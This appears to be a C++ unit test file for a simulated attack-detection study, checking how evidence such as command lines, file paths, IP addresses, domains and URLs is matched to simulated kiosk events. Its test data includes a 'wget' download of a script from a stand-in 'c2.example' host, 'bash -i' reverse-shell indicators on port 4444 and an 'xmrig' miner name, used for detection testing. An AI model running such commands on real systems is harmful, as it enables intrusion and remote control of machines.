#include "sim/exchange/attack_evidence.h"

#include <gtest/gtest.h>

#include "tests/sim/experiment/small_study.h"

namespace picket::sim {
namespace {

constexpr auto kCommandline = EvidenceKind::kCommandline;
constexpr auto kPath = EvidenceKind::kPath;
constexpr auto kAddress = EvidenceKind::kAddress;
constexpr auto kDomain = EvidenceKind::kDomain;
constexpr auto kUrl = EvidenceKind::kUrl;

class Shows : public ::testing::Test {
 protected:
  static EventRun of(const Record& record) {
    EventRun run;
    run.first.record = record;
    return run;
  }
  bool shown(const Record& record, EvidenceKind kind, const std::string& value) { return shows(of(record), {kind, value}, texts_); }
  TextTable texts_;
};

TEST_F(Shows, a_process_by_its_command_line_its_image_or_the_images_name) {
  ProcessRecord process;
  process.commandline = texts_.intern("wget  http://c2.example/x.sh");
  process.executable = texts_.intern("/usr/bin/wget");
  EXPECT_TRUE(shown(process, kCommandline, " wget http://c2.example/x.sh "));
  EXPECT_FALSE(shown(process, kCommandline, "wget"));
  EXPECT_FALSE(shown(process, kCommandline, " "));
  EXPECT_TRUE(shown(process, kPath, "/usr/bin/wget"));
  EXPECT_TRUE(shown(process, kPath, "wget"));
  EXPECT_FALSE(shown(process, kPath, "/bin/wget"));
  EXPECT_FALSE(shown(process, kPath, ""));
  EXPECT_TRUE(shown(process, kUrl, "http://c2.example/x.sh"));
  EXPECT_FALSE(shown(process, kUrl, "http://c2.example/y.sh"));
}

TEST_F(Shows, a_file_by_its_path_or_name) {
  FileRecord file;
  file.path = texts_.intern("/tmp/x.sh");
  EXPECT_TRUE(shown(file, kPath, "/tmp/x.sh"));
  EXPECT_TRUE(shown(file, kPath, "x.sh"));
  EXPECT_FALSE(shown(file, kPath, "sh"));
}

TEST_F(Shows, a_flow_by_the_other_machines_address_or_a_block_around_it) {
  NetworkRecord flow;
  flow.local_address = IpAddress::parse("10.0.0.5").value();
  flow.remote_address = IpAddress::parse("203.0.113.9").value();
  for (const char* value : {"203.0.113.9", "203.0.113.0/24", "203.0.113.9:443"}) EXPECT_TRUE(shown(flow, kAddress, value)) << value;
  for (const char* value : {"203.0.113.8", "203.0.112.0/24", "10.0.0.5", "none", "", "[", "203.0.113.9/99"}) {
    EXPECT_FALSE(shown(flow, kAddress, value)) << value;
  }
  EXPECT_TRUE(shown(flow, kUrl, "http://u@203.0.113.9:80/a?b"));
  flow.remote_address = IpAddress::parse("2001:db8::7").value();
  EXPECT_TRUE(shown(flow, kAddress, "2001:db8::7"));
  EXPECT_TRUE(shown(flow, kAddress, "[2001:db8::7]:443"));
  EXPECT_TRUE(shown(flow, kUrl, "https://[2001:db8::7]:443/a"));
}

TEST_F(Shows, any_address_that_a_scan_tried_and_no_other) {
  EventRun scan = of(NetworkRecord());
  scan.vary = VaryingField::kRemoteAddress;
  scan.vary_key = 7;
  scan.first_index = 11;
  scan.count = 1'000;
  const auto address = [&](std::uint32_t i) {
    return std::get<NetworkRecord>(event_at(scan, i).record).remote_address.to_string();
  };
  const std::string last = address(999);
  EXPECT_TRUE(shows(scan, {kAddress, address(0)}, texts_));
  EXPECT_TRUE(shows(scan, {kAddress, last}, texts_));
  EXPECT_TRUE(shows(scan, {kAddress, last.substr(0, last.rfind('.')) + ".0/24"}, texts_));
  scan.count = 999;
  EXPECT_FALSE(shows(scan, {kAddress, last}, texts_));
}

TEST_F(Shows, a_name_and_those_below_it) {
  DnsRecord name;
  name.name = texts_.intern("a.c2.Example");
  for (const char* value : {"a.c2.example", "c2.example.", "EXAMPLE"}) EXPECT_TRUE(shown(name, kDomain, value)) << value;
  for (const char* value : {"2.example", "b.a.c2.example", "", "."}) EXPECT_FALSE(shown(name, kDomain, value)) << value;
  EXPECT_TRUE(shown(name, kUrl, "https://c2.example/"));
}

TEST_F(Shows, a_log_in_by_its_program_and_origin) {
  LoginRecord login;
  login.executable = texts_.intern("/usr/sbin/sshd");
  login.remote_address = IpAddress::parse("198.51.100.4").value();
  EXPECT_TRUE(shown(login, kPath, "sshd"));
  EXPECT_TRUE(shown(login, kAddress, "198.51.100.4"));
  EXPECT_FALSE(shown(HeartbeatRecord(), kAddress, "198.51.100.4"));
}

TEST(Decisive, is_what_cannot_be_the_devices_own) {
  EXPECT_TRUE(is_decisive({kAddress, "203.0.113.9"}, "kiosk-1"));
  EXPECT_FALSE(is_decisive({kAddress, "192.168.1.7"}, "kiosk-1"));
  EXPECT_FALSE(is_decisive({kAddress, "not one"}, "kiosk-1"));
  EXPECT_FALSE(is_decisive({kDomain, "Kiosk-1"}, "kiosk-1"));
  EXPECT_TRUE(is_decisive({kDomain, "c2.example"}, "kiosk-1"));
  EXPECT_TRUE(is_decisive({kPath, "/bin/sh"}, "kiosk-1"));
  EXPECT_TRUE(is_decisive({kUrl, "http://203.0.113.9/x"}, "kiosk-1"));
  EXPECT_TRUE(is_decisive({kUrl, "http://c2.example/x"}, "kiosk-1"));
  for (const char* own : {"http://192.168.1.7/x", "https://[fe80::1]:8443/", "http://0.0.0.0/", "http://Kiosk-1:8080/x", "no url at all"}) {
    EXPECT_FALSE(is_decisive({kUrl, own}, "kiosk-1")) << own;
  }
}

// The shells of A15 on five kiosks: each runs "id" or the like, calls its server at port 4444, and does nothing of the miner's.
TEST(ShownEvidence, is_what_the_attacks_on_the_device_did_by_unit) {
  const Scenario scenario = test::small_scenario();
  const World world(scenario, 0);
  const std::vector<UnitWindow> windows = unit_windows(world);
  std::size_t shells = 0;
  for (std::uint32_t u = 0; u < world.attacks().units().size(); ++u) {
    const AttackUnit& unit = world.attacks().units()[u];
    if (world.scenario().attacks[unit.attack.value()].name != "shell") continue;
    ++shells;
    std::vector<LabelledRun> runs;
    world.attacks().events(unit.device, windows[u].start, windows[u].end, runs);
    std::string server;
    for (const LabelledRun& run : runs) {
      if (const auto* flow = std::get_if<NetworkRecord>(&run.run.first.record)) server = flow->remote_address.to_string();
    }
    ASSERT_FALSE(server.empty());
    const ShownEvidence shown = shown_evidence(world, windows, unit.device,
                                               {{kAddress, server}, {kCommandline, "bash -i"}, {kCommandline, "xmrig"}, {kAddress, "203.0.113.1"}});
    EXPECT_EQ(shown, (ShownEvidence{{u, {kCommandline, "bash -i"}}, {u, {kAddress, server}}}));
  }
  EXPECT_EQ(shells, 5U);
}

}  // namespace
}  // namespace picket::sim
